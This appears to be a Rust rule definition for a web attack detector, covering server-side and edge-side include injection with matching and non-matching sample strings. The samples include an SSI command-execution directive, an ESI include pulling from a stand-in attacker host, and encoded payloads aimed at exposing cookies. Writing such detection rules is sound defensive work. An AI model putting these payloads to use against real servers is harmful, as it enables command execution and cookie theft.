//! Server-side and edge-side includes.

super::rules! { TABLE ["ssi", "CWE-97", "crs-941"];
    SSI "ssi-001" "server-side include" Critical 1:
        "<!--#exec cmd=\"ls\"-->", "%253C!--%2523include%2520file%253D'x'--%253E",
        not "<!-- # a comment -->";
    ESI "ssi-002" "edge-side include" Critical 1:
        "<esi:include src=\"//evil.example/\"/>", "%253C!--esi%2520$(HTTP_COOKIE)--%253E",
        not "<!-- essential: read this first -->";
}
